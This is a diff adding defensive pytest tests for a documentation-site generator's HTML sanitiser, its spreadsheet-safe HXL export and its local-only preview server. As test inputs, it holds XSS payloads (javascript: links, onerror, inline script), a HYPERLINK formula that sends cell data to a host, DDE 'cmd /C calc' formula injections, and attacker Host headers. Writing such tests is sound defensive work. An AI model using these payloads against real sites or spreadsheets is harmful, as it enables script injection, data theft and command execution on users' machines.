+    pages = _site_html(site)
+    assert any("Read [the annex]" in text for text in pages.values())
+    if audience is Audience.INTERNAL:
+        assert any("See [here]" in text for text in pages.values())
+    for page, text in pages.items():
+        assert bad_links(text) == [], page.name
+    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
+    for entry in index["docs"]:
+        assert bad_links(entry["text"]) == [] and "<a" not in entry["text"], entry["location"]
+
+
+def test_site_sanitiser_cleans_what_markdown_let_through(tmp_path: Path) -> None:
+    """The second layer alone: HTML that the Markdown layer would never make is cleaned in the
+    content region, and the theme's scripts around it stay."""
+    page = tmp_path / "page.html"
+    theme = '<script src="assets/javascripts/bundle.js"></script>'
+    page.write_text(
+        f"<html><head>{theme}</head><body>"
+        '<article class="md-content__inner md-typeset">'
+        '<p><a href="javascript:alert(1)">x</a><img src="file:///etc/hostname" onerror="x()">'
+        '<a href="&#106;avascript:alert(2)">y</a><script>alert(3)</script>'
+        '<a href="https://example.org/">ok</a><a href="page.html#s">rel</a></p>'
+        "</article></body></html>",
+        encoding="utf-8",
+    )
+    sanitise_site(tmp_path)
+    cleaned = page.read_text(encoding="utf-8")
+    assert theme in cleaned
+    assert bad_links(cleaned) == []
+    assert "alert(3)" not in cleaned
+    assert 'href="https://example.org/"' in cleaned and 'href="page.html#s"' in cleaned
+    assert page_problems(cleaned) == []
+
+
+def test_site_check_refuses_a_script_link_outside_the_content(tmp_path: Path) -> None:
+    page = tmp_path / "page.html"
+    page.write_text(
+        '<html><body><nav><a href=" javascript:alert(1)">toc</a></nav>'
+        '<article class="md-content__inner md-typeset"><p>x</p></article></body></html>',
+        encoding="utf-8",
+    )
+    with pytest.raises(ProtdocsError, match=r"page\.html"):
+        sanitise_site(tmp_path)
+
+
+def test_hxl_export_neutralises_formulas(content: Path, tmp_path: Path) -> None:
+    """Issue #15, class 9: text a spreadsheet would run gets a leading quote; numbers stay."""
+    attacks = {
+        "text": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Click")',
+        "unit": "+cmd|' /C calc'!A0",
+        "note": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    monitoring = content / "monitoring.yaml"
+    replace_in(
+        monitoring,
+        '    text: "Civilian casualties from explosive weapons within five kilometres of'
+        ' displacement sites"\n    unit: people\n',
+        f"    text: {json.dumps(attacks['text'])}\n    unit: {json.dumps(attacks['unit'])}\n",
+    )
+    replace_in(
+        monitoring,
+        'note: "Baseline period; 19 displacement sites were hit between July and December."',
+        f"note: {json.dumps(attacks['note'])}",
+    )
+    path = export_hxl(content, tmp_path / "out", Audience.PUBLIC)
+    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
+    cells = [cell for row in rows[2:] for cell in row]
+    for attack in attacks.values():
+        assert "'" + attack in cells, attack
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        if cell.startswith("-"):
+            float(cell)  # a negative number, not a formula
+    header = rows[0]
+    values = [row[header.index("Result")] for row in rows[2:] if row[header.index("Result")]]
+    assert values and all(float(v) == float(v) for v in values)  # numbers stay numbers
+
+
+def test_serve_accepts_only_local_host_names() -> None:
+    for host in ("localhost", "localhost:8000", "127.0.0.1", "127.0.0.1:65535", "LOCALHOST:1"):
+        assert is_local_host(host), host
+    for host in (None, "", "evil.example", "localhost.evil.example", "127.0.0.1.nip.io",
+                 "evil.example:8000", "localhost:8000@evil", "127.0.0.1:80\r\nX: y"):  # fmt: skip
+        assert not is_local_host(host), host
+
+
+def test_serve_refuses_a_rebinding_host_header(content: Path) -> None:
+    preview = Preview(content, Audience.PUBLIC, port=0)
+    preview.build()
+    listening = threading.Event()
+    thread = threading.Thread(target=preview.serve, args=(lambda _: listening.set(),), daemon=True)
+    thread.start()
+    try:
+        assert listening.wait(30)
+        port = preview.server.server_address[1]
+
+        def get(host: str) -> tuple[int, bytes]:
+            conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+            conn.request("GET", "/index.html", headers={"Host": host})
+            response = conn.getresponse()
+            body = response.read()
+            conn.close()
+            return response.status, body
+
+        status, body = get(f"localhost:{port}")
+        assert status == 200 and b"<html" in body.lower()
+        assert get(f"127.0.0.1:{port}")[0] == 200
+        for host in (f"attacker.example:{port}", "attacker.example", f"127.0.0.1.nip.io:{port}"):
+            status, body = get(host)
+            assert status == 421, host
+            assert b"<html" not in body.lower()
+    finally:
+        preview.shutdown()
+        thread.join(10)
